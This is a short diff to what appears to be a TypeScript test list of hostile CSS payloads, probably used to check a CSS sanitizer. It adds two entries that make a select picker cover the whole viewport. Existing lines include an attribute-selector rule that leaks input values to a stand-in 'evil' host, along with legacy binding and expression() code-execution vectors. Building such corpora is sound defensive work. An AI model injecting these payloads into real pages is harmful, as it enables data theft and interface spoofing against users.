@@ -213,4 +213,6 @@ export const cssPayloads: readonly string[] = [
   `input[value^=a]{background:url(${evil}/a)}`,
   `p{-moz-binding:url(${evil}/x.xml#x);behavior:url(${evil}/x.htc);width:expression(${code})}`,
   `p{view-transition-name:root}@view-transition{navigation:auto}`,
+  `select,select::picker(select){appearance:base-select}select::picker(select){position:fixed;inset:0;width:100vw;height:100vh;background:red}`,
+  `:host{--a:base-select}select,select::picker(select){appearance:var(--a);appearance:attr(title type(*))}select::picker(select){position:fixed;inset:0;width:100vw;height:100vh}`,
 ];
